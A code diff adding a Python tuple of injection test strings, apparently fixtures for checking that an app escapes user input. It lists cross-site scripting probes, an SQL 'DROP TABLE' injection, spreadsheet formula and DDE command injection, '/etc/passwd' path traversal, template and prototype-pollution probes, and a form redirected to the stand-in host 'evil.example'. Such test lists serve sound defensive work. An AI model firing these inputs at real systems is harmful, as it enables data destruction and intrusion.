@@ -1,0 +1,28 @@
+"""What people might write to make a page, a document or a program do something."""
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(2)>",
+    '"><svg onload=alert(3)>',
+    "javascript:alert(4)",
+    "{{constructor.constructor('alert(5)')()}}",
+    "${alert(6)}",
+    '<a href="javascript:alert(7)">点我</a>',
+    "'; DROP TABLE deliberation_statement; --",
+    '=HYPERLINK("http://example.com","点我")',
+    "</textarea><iframe srcdoc='<script>alert(8)</script>'></iframe>",
+    "&lt;b&gt;粗&lt;/b&gt; %3Cscript%3E \\u003cscript\\u003e",
+    "</title></script><script>alert(11)</script>",
+    "<svg><animate onbegin=alert(12) attributeName=x dur=1s>",
+    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(13)>",
+    "data:text/html,<script>alert(14)</script>",
+    "<base href='https://evil.example/'><form action=//evil.example><button>提交",
+    "<details open ontoggle=alert(15)><summary>展开</summary></details>",
+    '＝HYPERLINK("http://evil.example")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "../../../../etc/passwd%00",
+    "[点我](javascript:alert(16)) ![图](x onerror=alert(17))",
+    "__proto__.polluted constructor.prototype",
+    "%s%n%x {0.__class__} {{7*7}} <%= 7*7 %> #{7*7}",
+)
